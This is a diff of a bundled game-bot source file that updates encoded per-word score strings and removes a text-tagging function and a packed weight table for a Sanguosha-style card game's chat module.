+	fell_lap: "omnlnkmroopqlmlpnnnnoploonpmnonnppplnnnpononllnmmkqlmomlnmmqmlmmnonlmm",
 	gave: "nmmnommpnnmlnmmmnnmprttmnmoommomonnmnnommnonmnnnmomnnnnnnnmnnmmnnnnmnn",
-	helped: "lnnnmoonnomonnnonovmpmnlnnmnonmonnmnnnnnnnmnnnnnnnnnnnnmnnnonmmnnnonnn",
+	helped: "lnnnmoonnomonnnonovmpmnlnnmnonmonnmnnnnnnnmnnnnnnnnnnnnmnnnnnmmnnnonnn",
 	helped_by_you: "lnnnomonmoomnnnmmqvplnnnomnmmmnnnnonmnnnmnnnnnnnnonnnnnnnnnnnnmnnnoonn",
 	killed: "mnonnnnoplnnonnnnmnnpronononnmomomnnmnnnnnnnnnnnonnnnnnnnnnmnmnnnnnnnn",
 	laid: "nnnnnnnonnnpnnonnnnnnnnmnnnnnnoonnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	late: "monnlnmpnpnpmnnnomolmpmpmnpmooqlmpmnmnnmmnoonnpnmmmmnonnonnnnnnnmmnnnn",
-	lord: "mmsmmmplmnnrlmnoqnqmnmoqonnnpmqmmonmnnmlononnnmnnolmnmmmmmnpnlmnmmmpnn",
-	low: "pokmllnnmomrnmmopnpmkmnopnlnopnnopqmqmnpnnpmonmolmpmnommnmmnmmnnnnnmnm",
-	mine: "onpmlnnlmmlkmmnopoonponjnusqmnmnmjnmmnonlnpnnnolpoopnnmmnmnomnnmnmnpnn",
-	quiet: "omrmjmmpmnkmnnmnlkllnmooonnmopqpmnlnompsmnopmmmoopmmnmrnnpnoonmnnmmmnn",
-	struck: "lnmmnnnqonmoommnkmnpuwomqmmpllqmnpmmmmnmmmonnmnnnmlmnnnmnmmonmnnnmmmnn",
-	struck_by: "nnlnponpnnolomnntoqmkmnroonnnmnlnmommmnmnmnnononmnonnnmmnmmnmonmmnmnnn",
-	struck_by_you: "pokmpplpmnnmomnmqnnmnnmronqmnnononmmomnonmononnnmmomnnmmnnmmnonnnnnmnn",
+	late: "monnlnmpnpmpmnnnomolmpmpmnpmooqlmpmnmnnnmnoonnpnmmmmnonnonnnnnnnmmnnnn",
+	lord: "mmsmmmplmnnslmnoqnqmnmoqonnnpmqmmonmnnmlononnnmnnolmnmmmmmnpnlmnmmmpnn",
+	low: "pokmllnnmomrnmnopnpmkmnopnlnopnnopqmqmnpnnpmonmolmpmnommnmmnmmnnnnnmnm",
+	mine: "oopmlnnmmmlkmmnopoonponjnusqmnnnmjnmmnonknpnnnolooopnnmmnmnomnnmnmnpnn",
+	quiet: "omrmjmmpmnkmnnmnlkllnmooonnmopqpmnlnompsmnopmmmoopmmmmrnnpnoonmnnmmmnn",
+	struck: "lnmmnnnqonmoommnkmnpuwomqmmpllqmnpnmmmnmmmonnmnnnmlmnnnmnmmonmnnnmmmnn",
+	struck_by: "nnlnponpnnnmomnntoqmkmnroonnnmnlnmommmnmnmnnononmnonnnmmnmmnmonmmnmnnn",
+	struck_by_you: "pokmpplpmnnmomnmqnnmnnmronqmnnononmmomnonmononnnmmomnnmmnnmlnonnnnnmnn",
 	struck_you: "nnnnmpmmnonnnmmmlmoqrqnoqmpmmmrmnmmnonnmmnonnmnnnmnnnnnnnnmononnnnnnnn",
-	third: "mmqmsrmnponspnlnnnnplnnmkmlmnlojoulnmqnppnnmnmnnonnmnmmnmnmmnlmnmmmmnn",
-	third_dead: "nnmnmmnoqonmnonnnnnnnononnnnppmnplnnnnnnnnnnonnnnmonnnnnmnnnnmnnnnnnnn",
+	third: "mmqmrrmnponspnlnnnnplnnmkmlmnlojoulnmqnppnnmnmnnonnmnmmnmnmmnlmnmmmmnn",
+	third_dead: "nnmnmmnoqonmnonnonnnnononnnnppmnplnnnnnnnnnnonnnnmonnnnnmnnnnmnnnnnnnn",
 	third_fell: "nnmnmmnornnnnonnmonnnonnnnnnopmnplnnnnnnnnmnnnnnnnonnnnnmnnnnnnnnnnnnn",
 	third_helped: "nnonooonnnnnonnonnnonmnnnnnnnnnonmnnnnnonnnnnmnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_hit: "mnnmmtnnpnnqoomnlonpmqnmlnmmnookppmompnnpommmmnmmmonnnnnmnnnnnnnnnnnnn",
+	third_hit: "mnnmmtnnpnnqoomnlonpmqnmlmmmnookppmompnnpommmmnmmmonnnnnmnmnnnnnnnnnnn",
 	third_hit_by_me: "nnnnnnnopnnnnmnnnnnpmonnnnnnnmnnopmnnnnonnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_hit_by_you: "nnnnnrnnnonqmqmpmpnnnnnnnnnnomolmmnnnonnpnnnnnnnmnnnnnnnnnnnnnnnnnnnnn",
+	third_hit_by_you: "nnnnnrnnnonqmqmpmpnnnnnnnnnnomolmmnnnonnpnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
 	third_lord: "nmmnmsmonnnlopmonnopmonmmnnnnlmpnnnnlpnpoonnmnnomnnnnnnnnnnnnnnnnnnnnn",
 	third_low: "mnnmnonnpnmpolnmopnpmpnnlmmmonnlooloopoooonmnnmmolonnnnnmnnnnnmnnnnnnn",
-	third_on_turn: "nnnmmonnnmopnonnnmnnnnommnnnnmolnqnmnnnpponnnnnonnnnnnnnnnnmnnnnnnnnnn",
+	third_on_turn: "nnnmmonnnmopnonnnmnnnnommnnnnmolnqnmnnnpponnnnnoonnnnnnnnnnmnnnnnnnnnn",
 	third_struck: "mmonnmnonnopoonnnnnnomnmnnnnnmomnqnnoomnonnnnnnnnnonnnnnnnnnnnnnnnnnnn",
 	third_struck_lord: "nnononnnnnonnmnnnnnnnnnnnonnnnmnnpnnnomnonnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_struck_me: "nnmnononomnonnonmnmommnnnnnnmpommpmnnnnmonnnnnnnnmonnnnnnnnnnnnnnnnnnn",
+	third_struck_me: "nnmnonooomnonnonmnmommnnnnnnmpommpmnnnnmonnnnnnnnmonnnnnnnnnnnnnnnnnnn",
 	third_struck_you: "omnnmononmoomomomnnnnnnnnonnmnqnmnmompnmpnnnnnmnnnmnnnnnnnnnnnnnnnnnnn",
-	to_lord: "lonmokmtmnoqmnmnmnomqroommlomkmrlmnmmnmnrnmnompmoqnomnnnnmnmmnmnnmnnnm",
+	to_lord: "lonmokmtmnoqmnmnmnomqronmmlomkmrlmnmmnmnrnmnompmoqnomnnnnmnmmnmnnmnnnm",
 	was_mine: "mnnmmmoqnonnolmlllmqruqtpmmollrlnnnmnmonmmnnnnmnnnlmnnmmmnmonnnnnnmmnn",
-	was_yours: "lnmmoqonmpnqmrlosqqnmmmnpmmmomrpmmlmnnnlpmnmmnmmmlpnmommnmmmnnnmmnnnnm",
-	you_helped: "mnnmponmomnqpmnkrpponmmmmnmnoomomlmmnnnnnnnnnnonnommnnnmnnnpnnnmnnnnnn",
+	was_yours: "lnmmoqpnmpnqmrlosqqnmmmnpmmmomrpmmlmnnnlpmnmmnmmmlpnmommnmmmnnnmmnnnnm",
+	you_helped: "mnnmppnmomnqpmnkrpponmmmmnmnoomomlmmnnnnnnnnnnonnommnnnmnnnpnnnmnnnnnn",
 	you_hit: "nmllqpnmooppmolonkopronmnnnmqssllmnnonnknnnmolkmnonpmmmmmmonmqmmnnmonm",
-	you_low: "noomnmmnonmnmolloponnqonmppmrrpmmnmmnmnnononommnonlnmnmkmmnpnonmnmmpmm",
-	you_struck: "mnnloppmmopplrmprtpollmnnmmnnklpnknnnnmlpmlmmnmmmopmnomnnnmnmnnmmnnonn",
-	yours: "lmrnomnnnmnlokmlkmmnnmpmnmommkoomunmroonqnpoolmpoonlnmnmnmnqommnnmnmnn"
+	you_low: "noomnmmnoommmolloponnqonmppmrrpmmnmmnmnnononommnonlnmnmkmmnpnonmnmmpmm",
+	you_struck: "mnnlopqmmopplrmprtpnllmnnmmnnklpnknnnnmlpmlmmnmmmopmnomnnnmnmnnmmnnonn",
+	yours: "lmrnomnnnmnlokmlkmmnnmpmnmommkoomuomroonqnpoolmpoonlnmnmnmnqommnnmnmnn"
 };
-
-// src/chatter/moves/senses.ts
-const LISTS = Object.entries(words_exports).filter(
-	(entry) => entry[1] instanceof RegExp && !entry[1].global
-);
-const ROLES4 = [
-	["fan", /反(?!正|应|而|复|过来|映|手)|\brebels?\b/],
-	["zhong", /忠|\bloyal\w*\b/],
-	["nei", /内(?!容|心|部|卷)|\b(?:spy|spies|traitors?|renegade)\b/]
-];
-const KINDS6 = {
-	sha: "sha",
-	shan: "shan",
-	tao: "tao",
-	jiu: "jiu",
-	wuxie: "wuxie",
-	lebu: "delayed",
-	bingliang: "delayed",
-	shandian: "shandian",
-	nanman: "all",
-	wanjian: "all"
-};
-function sensesOf(text, mentions) {
-	const topic = topicOf(text);
-	return [
-		...LISTS.filter(([, list]) => list.test(text)).map(([name]) => `=${name}`),
-		...ROLES4.filter(([, list]) => list.test(text)).map(([name]) => `=${name}`),
-		...verbsIn(text).map(({ row }) => `=:${row.verb}`),
-		...cardsIn(text).map(({ card }) => `=card:${KINDS6[card] ?? (GEAR.has(card) ? "gear" : "trick")}`),
-		...topic === null ? [] : [`=topic:${topic}`],
-		`=${Math.min(3, mentions.filter(({ kind }) => kind === "seat").length)} seats`
-	];
-}
 
 // src/chatter/moves/want-weights.ts
-const UNIT4 = 0.5;
-const BIAS6 = [-2, -2, -2, -1.5, -1.5, -1.5, -2, -2, -1.5, -2, -2, -2, -2, -1.5, -1.5, -1, -1, -1, -2, -2, -1.5, -1, -1.5, -1, -1, -1.5, -1.5, -1.5, -1.5, -1, -1, -1.5, -1.5, -1, -1.5, -2, -2, -2, -2, -1, -1.5, -1.5, -1.5, -1.5, -1.5, -2, -2, -2, -1.5, -2, -2, -2, -2, -2, -2, -2, -2, -2, -1.5, -1, -2, -0.5, -1.5, -1.5, -1.5, -2, -1.5, -2, -2, -1.5];
-const WEIGHTS7 = "#`,a:9.FetxUkg~b<cEVEEKt4^XHy]N%W}KYC<&mVNrqD[|:fV/?,T3wp'tC4@HV*}<{eK|N;fIPjsEt_[)t,GFu/P4}1+@laB)ZZ11,?bksN1N-)Ef:t~IWY:N:O+1Z)tD_fGjqlhK+K.oFwhPr:MJ*Dgm4jyi|Zw~z[5:mb5s/,9CB`^&lX^qAGC9Wu+CV,w73:Y/O%MKiOiZ~@>w@-d;Nx{ei$M%Se^T%S<dhKGh94c08*KgU[E4$X#u9lY80)49w,0gMgxm'OD^W$@b55]6Oi[k]}ZGQ,j;kM;d3m9)OR0tkbuGJffqC]2c{E},'Sl^Uz_%J>Fd6dFg6fy)3|c&2AJYg-EM#+8~~~1+V%q7>>ClVxknJ=]bQ}7Z,[_a1({:1}6]U'D>C4XXD(X&r,;t=g[_:|dK?p:^?WhLW<ro~Z[R;oI{r@g;f@h|W(Kma'%:oEUpA}4$qfY_f49|{i7j;p#c_r3R?8B1r.80py9%[('f7%Q4_WgENe4747kWXW-NZiO>t~~8_%-n<,:/d:_KP)u6=}C@r?CM*9s+%z&(O`aq%Eb>BDW3c]6f@$c}f|Ns*jo@K.4Yw~pqJy7frVM,jrImW;K=q0Jv)-Q*U.l4)97Tz=ee}'t`+@FC<[QaC@&~W`b8GwYGE&S'14wz9==VjZhy*LE|L~XcV(RAd9z-H,V1K&n24wui6T_:-l[CdbEYZ[;NJOPY[n/JH|Hb@WD3b<y>T8m8Km|wAz7wAzk-Z,G-bAGFomS4'*f5kX~pv3]QB.|Ig.sP){r+qAWs.qwsHu}5UM%RN1Ozb8~8>Hc,W;?iKy~NaWB89do}0x:B%uH(km[Or+lo^;P(DS<FXn5yvuLbEQY3MVFy1%YS6Tt1<M4txjTJ3,_KBY8/TKF3Cnj^D$LEEA5<*W`@+2I`(qC}:M-}'u|RV{2ZLX;;4<>6l,B}#tTum]4'Ig[G,9Nd|x9.$v@MB2?(?wfQH#+|j%xu<n]v'Hlf#U+1h2;Hj{(k_1ugaun->RL8S*dmbXeq[dnXD,~vub2u*qpG)f04L2eXV3Lrc(3B0-Z08rV^>5]p.]@}A_YYcUFwr`/<+[ABr'@gqPn#[3h`nf&LRXzc+Ln9$hV*6Tqa,pj_%I[>*(-N0`,ovNt3L+M(@Pdf?kRHcmRqP:FbIV@1M[cew|M%gE-9uq'jK.6*hK;+c9ABxOF?z9F,Z6u1_gq_1=0$Ey}[q*@ju7#gXjR<AScH4MHJNpp(qI:u?4-g>|A8JW{DHhBQLwAz`N_NmL*d'E7O&rA&5?A`_Bo$wau[Y(@mDioEZ*c|JH[yhv8={-[>vQAu]=0#m>o~-7BVCueD*V657~uxXsN6X{,k/2YP/_*'VP3c~pkS.[O(,:E_tX|M0evDSuVEm7'hk:%>r#M,:G*|V_WoDpJ?7.P-LrBSCZ`3$f/v)SgzcTG6G~#U%dX.2r~`]]/6YpR|@?Y`TuP.U9i,dEtY%HtdFyc-D}I&Yk0(_X:j,2r/P^6i)(-To=:.2MS/F$v<^0>`@[VO.'q{SGHEoY%GMqzRs]4lXBo[Ew8jcGO.@E(uzk0E:kZZ*|mDD{c66cyaO*&ji|AG-mX)f09<KJQw*g>y[HblNxBIFM21k<Y-:-zXE>}]<|3T}JaJ/rn+M4.v,zS&A9m}6K|heds8?wp/E?#T<4I{y{qrb'3(;DRHO];Fw?up9qptUj0|CuX<AZ3;'`A^%g?PA5;$e~4QDM+PlH%(4)Ri#-z}6.^W$iU=ce}Z~#HcKRP=k]fnJxk<a`SDEgieUSx6?os`GV4Ac$'V`d^,x-W(hsu{S/|9fytzEc8c`&sHvE^r[4Sp2=fnWQVOOE|Lko5(sW{Xn*dpuwHZ7OdLRZ[J%%_@_C1uOxAz#<vP6ze4gMB`jIh]7L^=o/XV?mZFj,dYD&)eBdhYs6%8vP/_@P<=qi?5+hyz~LV^QKv*$$ZIdSQO8wlpExkQ#~E'Fj?8#wBV#SGzD;wz0tQu>mhdLLb%Z(Nj0O-%-QfZ)R<qBysr<ga#ecTQn[(g(,T{^o-*Y3q$J_^jj1gI*d/dLR)tfq,?3_u=WI.T@>J0}Fk<YB-^2l#mr]@VA72eA8|&^0Ew[05vJV:<]sGERmPS@C^>T,QU(?Je-42[1BtU^ki|R-*k]T3ngtx$lVP[l03N&18OX%f=j76<jufDN&e`v#65{q)G?f#E@[A</O&]IDMosNAy@n^SP-HD^I`#N>29?IqBg~$~Z3}X@d{?-k.R>t)#k=U{o&09<h/W;@19'uk{?z+-J%3){4H-@D[y7Liue'{&X:o?@@lXlB79_M8L>`m(J*/N7?qa_5oGf6~W9EG^V&*iE.>.J*6{;{p3/98dIwq6)UZpol4y,z&]a|5Lig|+Lb|BafQo6wFb3A,=jUSd(WR87V_D}Y%:W:vx_4P(tl2h#>+>$,os/Wbh>'$VGtCVhVowj%02M:B<gK]p8YECG:8@3Nwmo00n%F<^49g#';<K&/i(.*ulZO'y7hnWr-{)S*wOQ'^(]41;sJ,-&&qAPdSb}`+8vW{eALd{z)KRuQ)ig2>(n|C>OcD_o~+Ti/=G;86e<f.@ae)Zv{g{J~NKU8RcOc1G(<CXzk-Ybx(=kQZ?$|y,KF^M_+ZHA%.K)T;CR[Bo;3#BKO>S1|cyM3*7=uVbcr%8bSLcn9dg1R-[;v{|Ce3wJWp#}p>^BbhTu8:(3DeYc2ep0ik,G-p:~H&:~k&tlo'I@ZjvO:X/0}N?yUvv3Jmx2CuR?^|zql:bF;P,AVjRuy8LQ#6%:6-7lg&]eNLkU5ocJZr%;aVhh^:`D-1-Z08RxBa?9S}1fgTGcb=]^PDp}9v4{L,+P:179D?+ES<mYzmt*5sFn;I`W{C'Zjtw/h2HIr=Yl^zc1~&3NHTC4Zdy}u%0U/ppo^Q,E8|A.x8.3Yk0QUa970}$RF;YPM0u,kvBt%(l]B@-]XP6[Q9a9k^nN/dE5Z]^D/}KZ+SXlLmrJNd9]y_MMNbge7LOU&_9}m#E)ya1Zd?}?+h.r1HM#lz73t1<U2|T6f.?M'7VF^g2sPj;[VJ9#MVa9thT'tvr<1'b?s@MJ8Ph[vs/QOy8XDZxjzM,A7pLZ{=14^%(5wK9=fP%'yRe,m}6ft0dzt[lJJr}h#z^`.f)JM.Ka)9;IIP[,pVvQ?lM&{9.j@Y$<<,e{Jo#VxqD+~iE'P*s~1x$rpJgC$Q2Na$s/-r#`dvz8}7`d.}Mu1<_%^`^<8b)QluJ_%zK0utO}k9<]iAc9ZadH[3$*e]5W;1`[))^oIo7MQh}=1(;`.;;XPO6O_W*'-_Eh5o'rM1?B=;{<P'_7_is<xIo-D1ALO<Z'Xnaj|<p16{KP4H8in>1,,(jcz0Qz#_0j4]ZxOQ*?KzQ1xF%zP[g#=Wb.qA]Ilf#/0R_i-&IxhGA&ytR(&&FSD|{?qC>21vUIr`_bD#KCwCAv)]G(b|0ST{#>iHGy~sg_:^t3WyDl&a2J4f;(Q'NA{R+zPJ3bup;Gg%hOoYj(pWU,5nx+2,[4%(b_n%~Rt'$vb+A/X3nhN2(SQ'~AvLcr,jt7i8$00xlb4,`Y]?d[Z|Z>W?9ZeB:Q.'bF}[j}Ly0qF>_cMOA&=?uJ<k+h),B?AhU{V8:h#{SIXa>fC~6AM[X?yg|%Tqbch:0XZwNLHf)*b/5ysq)fA',@qI2co]xD3p5A`o}&6{QU>6[]tD8K9F-FJD#?6YobNJD-6O:Y1_/Lt*)msmTm=JFQSLN-=[Nvr#V-KR9_x;(<Wm_0OAfOv#,821p@752K|o2.hLbio_5]A<,?UmUxw%Om,7xCb%0|f{aBEEpZ815ehWRM1GnkYt:<q%Y>+w`jb*.#4:z(ap>m~3?-zMQd6UE7f7;d.U8J?x_Q8/0%n)c(@qZ?kawIq8';l1v:610o4.iiq^[Bl3hET`}@;TJg*<z]x7'XuhK'n>6zIHP*<dGR2)$PkU<*~AdM3R-IJ~ksKuOddK{Q,m=z2})uh.K,Y.WlT0e/G%3Zvs$]ZKC%B8/[eIB_9L|PIxpvPluGox~=LrLjrdH){rpfiW(d3kl.wxAKLkY--gL35F'(=wM5I]~yibA4a9q&={gM;LrCN~G1S-i'x>WWF[C[}V;*W&P'`VfgQWCeAAVRsVYpSV-i6'IcxqYeYXSI/a]V$`H4hC}&%_W*`(5(0%8P:@l['$)yp>#eQHTI_:LPHT'z{@TZ88;:m^w:JlSUZ>PQQSCpiCO2zePs/m4DxfYt{&SYBn52R/&)r<Lz44#,Bm{0@3g+4Yq,N*tHys^ghBb]*U'p8#d0(5iDOwZ&].F'opSz[[g-sA#;{k3rPvR{_%A=4PJNt}3ziFv[)NIc^x$ZTqgB4bD(,Mxt8Om5mNj'pUxT*]Fbxq8w`UCGWD]a4<9^icmDt:K62v:T/rn&4NoFDagu;KL4@hT8e(7q]6M0W|rZ>&&Hv>Zd?P.6QcKGJZavO`qu7;M~xw.NV40V[8HEa0;T01io/AZ{3p$1{>--EJQYNg:`XA]a;RI?/T'ZP5{YE)r`XlazMG;0#TiF|KiMJXUH,)Awjbcznf5iUE(yjgkq&T1@J@b-MKAw`n[j*phD=mE*Z6htC<rX}8-Glj-+~{%|N;@6k]Y|eze]Vs}jBt,>cElo>wDbg{L[L8`W{`o~J=4;I*rsx&dzYWrqFG|Q..joY/s>9<D^={(%#lWwxZLtW4Y*@nKuT.j;*mQ(crO#gY@wx&i^fq.tb2Csph&|i:KFKi')}C2EBBvuWn2xLX?26vj}Mx^Gjc<kfCgfwwYhz]QD'yA7zTjZ6TVCRTz$HBZ<2d.BhleRdgy$j2tr(kBR7Gxaqp0?vg9|4=$')srLR=,hJpQqW(qSahaK4(H2}*c+d<LxnqkV-_iz0zQRYLe7M5Db&47[:eB0,uL;*~M}bl`tb*<&?viuD%ZE4=*UIzcZJb=SJ7H.yN{==x/HcH(k/}Nb=-<PIanEIvv.YV#.-?A`^fBf)XEy)EJD{]nml&nsLM2SkS)~J?TQbUK%#ZP('HT5Z9f8+%Q?ukmWTlE<ePly,M|(nPKHqKTFhY^@Ll6d9~:a.iaQI@7e>k+T:;eKKF?4{B^~Z:B@Q.%0u#PY<aR7%}z+{-Z<$Nm#s(<H-iTM[=NJpmdjlD8:Pe^X>}1SkuBJ25dg/L6%Ug]jep+36.~$Ume&zw,S+NT/c30cHpiMVPp/L<5kl)<ePQ5S,XMZPr}XV`oN=HKaVrLL+XSvYI2Q:YETr]s/NF`1%zETS+^cUa{flF'^)mrn'ox6:%z>7FvzXn`Y46zoHJ`G*Eu;CvV1O7YzrV.gigrY/L^oBk.f@zlR,h=E;?2ZKoQXa33r$hsd:&'8Bdl4~W0=u){L'2J3aVDw}F83Z9v`~oM7SbCy},x@/g0Z1hrS^$Ver%gIRRel1qarGH#0P8gCuo-p(M`hU.kJ*|/~YAdpkx;d72+D(~.H5.U=bjHW)i0uPdB&J=x~9TTbd:p5QYK,_&,L#xi69h(H@P@Vr'{eI/3Xge;=)4)VcD5P+#~-yZ%I7fg8}l9pmL',7R6=LGb^J5St-)A{EOwj'~{TLKbNR.T;c(HJPh]()$Bc&ECGK?^`5BLGw_W8LgTDu(R$Xa5T|N&=a,i~L/U31{PnI7hT9;d[G1JB|J%T%W@$b|^;/&*0`q3;i#8{g6~wvVLX|I_N{w-O8AK*v$+&mr<Zq(N3/sqXjyA-(-^KooXTY7h-HFA3:qB^C#R/q,tve1@zo$Z%<EL+#+q#8izwrRA@J3ckP)-CgvSjOk`3gS4`jf?z-i_-/$AUGp_laz~y+}2GQN<N~vO~`6g7,k0-PZ-q{]]:JD[d#Fue5?9C+M.|45R1;1^_kkx6rqpiGOW'Cv5w)W3*/-/#@m_0T:W@lmfH&NNpcQl8Mg~a$,yC@3'lC(x`p:Zr_kdvBr&UAwWvTu@v:|c$p~>'_i<hoS_rq$K(EK7Iog,g;P=;EnT|G@h+q*RPEQ.>q~,$iD9G;23i1@dWkx=Pd@](dbUi%Ck{TxgCZI/z~,v|PH]K4bwvqJUqYne2`zv#,GJ1Ib|rAF%VMs%ZBCBuO2U>DnB8r~Fno;=EPZo,=za.(:%19,)fd.y#s.OuInCz5Q&l3|)r[J+M)h'Min,*v<SHd3-T5miMI2_c`U.(Pxe9bjpGPH5RU*~<^${*~1'#rY.|:tkZM,(3FQd~Jqd4w7]E5fqb_9ZCc7/Ff2xbx}ZxXqw^IvYr7LcS]_PeOh0yJ1*F)-&xPFWkp6Y|q7EWqtG|4j,5WRnpl..3Nt|s2b6l|(hAph=)w[(3hKKX*)t[9z$|F6Gu'kh5ZNbLI)f=mtYU^Z1_ER{Y3r2:#uh{y{$AJ$n'J_S>6b{S0:l1E$*NxRv3glZ5.gxRWZ:JdSz'SmFc?EhP]a1j%+kw,1)8Ga)&nlN6FM@OYBb~3Q@-ez]N6%(|]kCF>qn`@vJ%/[Gfoi%NLX:~f.+6Ymj5hYv&E7Btm|JxVEO?F?ux:T]rkuPzK-#)e:t74EL8B)H`.0IVViOG:jU<r,z{]uxC)n-'uDkyo/93~a.??6K{RDTxfKz?a$HPc[ZOI7xjV/WIAJ0@fE=EO|zxjlpF5X$lApooX8r4wb@%S>X=tO^p$@Io_+^-IL?$k*4THqb@xy//}>)|]ZQf>qEiNK2]Oc'/G42keEv:X-fy]Nu)~cBVmhvr%fJnkf'~'H+^y-J`3^.o2?u7>(:Ze(}V_N*n1zqr^r]b_dbb@d_@s.EA,OtA?Tc4Y[9^a2umU[AH&#9@&:KKnz;9$W=OD-YWI<5]idzD)/J9&#)4^7oW<et5ivQn&6-hbuc^ba&O'CHZSe-M3a|9#DruwF&y~7@93A~_%c/H`3DbW.aBw@O,e|-gE8[LODq,>@Px={~p7EQc4L#*eI0;gyB,=`Mb28Q)<]A)h{`[PHPm>4aR~q11LOq)zcFa<cJK,:SbH0Z0~|*o0LO9r.e7w+dMcVfXj/3ADd|e#`5Qve/BTX^,rhcL+r(_Z3`EH)G:D08dJKVZB/)RfASqS[c_F+D]Qfeqz=P^Xk`#T=~xPS|Zj~G1ug*'gedAB{}i]A%V0Nm*?(Yi'{&H[q8}==l1anvW/0BRvG$h#aE~r&:ZUtd'q~+V`*EcO=+VdkZW*sdnNmoNbYyr~rc+^V?gLAkv)wCqk*Z|2G#X6^Mo+f><#J]gl*D{l{wQ%<4L#2d2BT0':bP6>8uTHTN$erU/6-Vi'L4jY#p2*RB}@Fxxp?[CV^{$wv3cL1JVUM983?O#))psC1>4G,W:#y}YUb,Xk_vfN#=uz4QT[~[(,`r966#IPr?o))IU0IBpwTH5VL-gu'.d1O$o>q'<kZc>^lv,F+)_'cg[L`CzSSNk04s/}zJBCiIak|riexMxI8R0oD&&[#-w?jc.oD}`[7)kvj+Iw9hLvke(5%~CH1}hNmwGz-ftSV4efWZ@o?.d3K<*&'6CR8i%3[Cvce3VYOvS7<vR%Sgj`MMfcqRS8Isuj-:j4=276^rw*5.&~_mmKj%V:JsQeHI6ZB2hT3L*9'rM&z)@t|mD@YGS@x9X^?'h*E,C%/W`&u&lqUs[)]k.%Bj3}kJ+DzDFIz[U+p0Ut4-w=D$7msvj>%0|.fA^Skws`XFz$:#|>,J-7:nD;HBU,sm>b}3W$T(.lV{K)|*Zv-I}s^@gGU]qbS08K(Z&f-NE$C(Bu`<#jk3[_?`6q9ZV$sm#Ir7@19-P;%hhN<TD[e[[{#M1(RI=9g==q_HIS%w-3*2@(SNR2IrY1^C28zOF.Y2`l?qq&%M1kTBvbCp|~bduarA.QmuitWS3]]_c}W40F{Wz`~Jko^wpU`C[9X]LupZ3kOpKEva6NrH1=:G$AP<|9;=b?K)gbHH>M+LmzB6T{K'U|R63a>C[&UI7+|gQ4Vx;0_KBQP/.E_EgC?q1/W:4?jQh}SUVL;i:>4zP3ns-n#Y'BW@0a8v>5P@ZgM5JC/vnsT5K#'j[q}[-^s~b1Z2.{:BZgVrzPOc<2y2^S9D;5'C?CZ3D1j9Fl#8=v[1z%%h$%a/OuEBOG)f@l1P2K)6W6BF)jL/>qT[Rm,v~0wk;7EB+SD=tR4+NHtLD$5a[Sm%W#?kT+W3Vp}Nb-gq[QLN$@QRh2'TDK26^?[41i%.)DWQSd)mija:~0tS6&<~f>bpT*uYWUv4}UIV6$zdZmt:6.BQ09,ud^UL_W=9Fy-riZ|]VLcf=GpaQO`C*gDw?2N$xRoVva[|^=l};'+x'<@X<s|wqi>_npfsO2j^H{6<WISL$HDB{Njz*)9eXNS0sT:trykHFxLn5y@C+L0NtsVY.`c.0^`AC1(SM`4*86?bjxRTgzs0%SP-b(JDepV|H4=7{TooRL&otT7TpRGk,V583:X|:d/cO$-$_tBP6M`}49cz^IvisQ4<#U`+:GGxk7PVXEth.33DP2eiwHr{o-BK%{5?OTQvRZ[?Q=U83(bfjx/0Q?*}$yTXocn,kjnm_(}<{.bNt6/[q8(A/pp6+e?WGx*Xa/~qm,znwkLFm_hq3nY,fJifY3[(Qh;,VPshFIUxNwrv?>OPKX:>c+ntXNi4Cr0zII[_##-0f^y^fA^xYJrOb[;GiDjimx>x-9`1*y0n|[PK5YMI^v:8SXyu@xN,z*^t<ZWb<]WPb*`o=`$y*]7Ig**e<zwMt`p/5Z&i7Ui~]2L9*]Tln[d)q8U#~`,A*56,>xgD5wv;8<4HE(Ov,aKR1Rypk`qVadYOT$Fgy5|c$vJdKwny/G@)N5i+T6T.Ff>:f-&yF1[-z`^1d~vp[2Y'ELKPSYLwcHopWjc&gPFk~SG0$)oMYvNu_dD@Zcn`:N5aRjk7SM_Gs[13t[,*yj<x|d,el)7',xW5>,6gux'/=]5],@/]$6)Ye+O)).Ifb~HaRqzx>G/?Qn}?$p_s-9=d7DaJsRvf>,9Z@i/yPCLUXh`e#_$XvQbcSs)t~2,o&'pfE>ZL=K'x&xAZVqaA__'f{sMh$x1m]~A=~gK{}yrGWFBZTepB85NrUY|%8>BCc9iLO`z[q&PWDf<{(++hk?s^660RxZi9I.xX-3-CuO6E1bN3B#rP/gwS~J2G-<Co1>XG|$^xeigI3(ff(PqQs=_=|6uuIdlo-B3L8^ZY+g1B-u3Pd:--+R+`'z2equZ6m%[pjWWe7:MS4EkQtQ1_jA|I9*{kNdo_c;hS-uBe#>O.2tX;q(kowJKBm*44fvYm]=?pt$O+StYD3+,QFql>p=s<2sbuIbm)/SW{b50YTt67<?_r-_QU9yn=/BRbMSv%VLa-DJE$zI3w<@5jvl3H-TaX_Gm*RGD{oJaHM6,;~=|TCZ_rk$+:f%LMPk<M&MZ40L)+;s}&/DJ3D,tbR:gnPk.>+_amU@nH4xALv>'qu1X,~7QmkE+I>2xX>$k)d(s-[at|2:{~X{47(UIg;h1Fr]WJR'8d8]3Kr.W+D3fFew(9oDc>5JaroA;/_IZBVvmpE.u%'l1Iu|Wt%y#Y],amN5N&<9yZIBG}8aM5~Im6(@,>H[z7Pnr=;}*PEDNwEXk4F2#8HfIS]8<_])%vq@vn7EdGTFt`I{gl@NQODNOt{uCb(Df,@@4m~Zk.Ch>[b%)VEv?>T#]4*+b](7OW$qjG#->d}{SC-;o2?u$^-ql3vYQVN#?Svr^B^s_j[.aW/-w}]ct,+J-}-W?'yE^cAfiQlo7ep)yE`X(8HL^5&H8SKb<{6z-24mI5}A&NPm-Bph(=`j6OSqfw1_~b7`O80]'Jw`).tt1cY/GAM`m6Tfrc+0'@P8-XPEH(lgYiz1$;@?eH3:?OV3_DoRUaUORMNBfZh7`&9#{AO)Z%/21Yl@<Y$*QYVR{)bzvF7L@8sTG2c3s|])R'uPc5m`;BRkqhXjH7;YIM/nEi6K>e?]2_>eb`AfHc?qdj+v]IEo}#(W5NR$[w'Ocr1&@P%QYigJu`Hi{v$2)O%'Wn&;W@32zw<$Kfj3<f:]>$kCV8O=*2~aGS0yax%'G>bm5HAbT`2eENJ(&>hR*:eIp;<*e[(d:`t~q0+a'<Cfs[Gnd,?J4m9&0srzIQv3R4oG1)t.j94,5z6ijZWHF>c%Myv7k3